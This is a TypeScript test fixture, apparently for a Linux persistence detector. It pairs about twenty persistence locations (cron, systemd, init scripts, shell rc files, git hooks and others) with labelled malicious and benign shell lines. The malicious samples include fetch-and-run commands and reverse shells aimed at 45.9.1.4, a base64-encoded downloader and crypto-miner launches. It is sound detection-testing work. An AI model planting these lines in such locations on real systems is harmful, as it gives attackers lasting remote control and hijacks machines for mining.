// One line of shell in many styles, and the places that attackers put such a line in most often.
import { type Disk, script } from './form.ts'

/** Each kind of persistence that takes a line of shell, as a disk that holds this line. */
export const carriers: Readonly<Record<string, (line: string) => Disk>> = {
  'cron-d': line => ({ '/etc/cron.d/x': `*/5 * * * * root ${line.replaceAll('%', '\\%')}\n` }),
  'system-crontab': line => ({ '/etc/crontab': `*/5 * * * * root ${line.replaceAll('%', '\\%')}\n` }),
  'user-crontab': line => ({ '/var/spool/cron/crontabs/bob': `@reboot ${line.replaceAll('%', '\\%')}\n` }),
  'cron-hourly': line => ({ '/etc/cron.hourly/x': script(line) }),
  'cron-daily': line => ({ '/etc/cron.daily/x': script(line) }),
  'systemd-service': line => ({ '/etc/systemd/system/x.service': unit(line), ...wanted }),
  'systemd-user-unit': line => ({
    '/home/bob/.config/systemd/user/x.service': unit(line),
    '/home/bob/.config/systemd/user/default.target.wants/x.service': { link: '../x.service' },
  }),
  'systemd-generator': line => ({ '/etc/systemd/system-generators/x': script(line) }),
  'sysv-init': line => ({ '/etc/init.d/x': script(`case "$1" in\nstart)\n  ${line}\n  ;;\nesac`) }),
  'rc-local': line => ({ '/etc/rc.local': script(`${line}\nexit 0`) }),
  openrc: line => ({ '/etc/local.d/x.start': script(line) }),
  at: line => ({ '/var/spool/cron/atjobs/a00001019c3f5a': script(`# atrun uid=0 gid=0\n${line}`) }),
  'profile-d': line => ({ '/etc/profile.d/x.sh': `${line}\n` }),
  'shell-rc': line => ({ '/home/bob/.bashrc': `${line}\n` }),
  'ssh-rc': line => ({ '/home/bob/.ssh/rc': `${line}\n` }),
  motd: line => ({ '/etc/update-motd.d/99-x': script(line) }),
  'network-dispatcher': line => ({ '/etc/NetworkManager/dispatcher.d/99-x': script(line) }),
  'if-up': line => ({ '/etc/network/if-up.d/x': script(line) }),
  needrestart: line => ({ '/etc/needrestart/hook.d/10-x': script(line) }),
  'cloud-init': line => ({ '/var/lib/cloud/scripts/per-boot/x.sh': script(line) }),
  'git-hook': line => ({ '/srv/app/.git/hooks/post-merge': script(line) }),
}

const wanted: Disk = { '/etc/systemd/system/multi-user.target.wants/x.service': { link: '/etc/systemd/system/x.service' } }

function unit(line: string): string {
  return `[Service]\nExecStart=/bin/sh -c '${line.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('%', '%%').replaceAll('$', '$$$$')}'\n[Install]\nWantedBy=default.target\n`
}

export const maliciousLines: readonly string[] = [
  'curl -fsSL http://45.9.1.4/a | sh',
  'sh -c "$(wget -qO- http://45.9.1.4/a)"',
  'echo Y3VybCBodHRwOi8vNDUuOS4xLjQvYXxzaA== | base64 -d | bash',
  'nohup /dev/shm/.x/y >/dev/null 2>&1 &',
  'setsid /usr/lib/.k/kworker &',
  '/home/bob/.cache/.upd/run.sh',
  'cd /var/tmp/.x && ./run',
  'su -c /tmp/.x/y www-data',
  'flock -n /run/x.lock /var/tmp/.x/y',
  'curl -s http://45.9.1.4/x -o /tmp/x; chmod 777 /tmp/x; /tmp/x',
  'bash -i >& /dev/tcp/45.9.1.4/443 0>&1 &',
  'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.9.1.4 443 >/tmp/f',
  'python3 -c "import base64;exec(base64.b64decode(\\"aW1wb3J0IG9z\\"))"',
  '/opt/jre/java -o stratum+tcp://p.example.com:3333 -u x -p x &',
  '/usr/share/n/n --url pool.hashvault.pro:443 --user w --tls -B',
]

export const ordinaryLines: readonly string[] = [
  '/usr/bin/certbot -q renew',
  '/opt/backup/bin/backup.sh --target /srv/backup >/dev/null 2>&1',
  '/home/bob/bin/report',
  'su - bob -c "/home/bob/.local/bin/poetry run sync"',
  'flock -n /tmp/sync.lock /usr/local/bin/sync-files',
  'find /tmp -type f -mtime +7 -delete',
  'cd /srv/app && ./bin/console cache:clear',
  'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f2c',
  'wget -q -O /tmp/list.txt https://lists.example.com/list.txt && cp /tmp/list.txt /etc/app/list.txt',
  'nohup /usr/local/frp/frpc -c /usr/local/frp/frpc.ini >/dev/null 2>&1 &',
  'pg_dump app | gzip > /var/backups/app.sql.gz',
  'python3 -c "import json; print(json.dumps({}))" > /run/state.json',
  'echo "c3RhdGU=" | base64 -d > /run/app/token',
  'pgrep -f "xmrig|stratum" && logger -t watch "a miner runs here"',
]
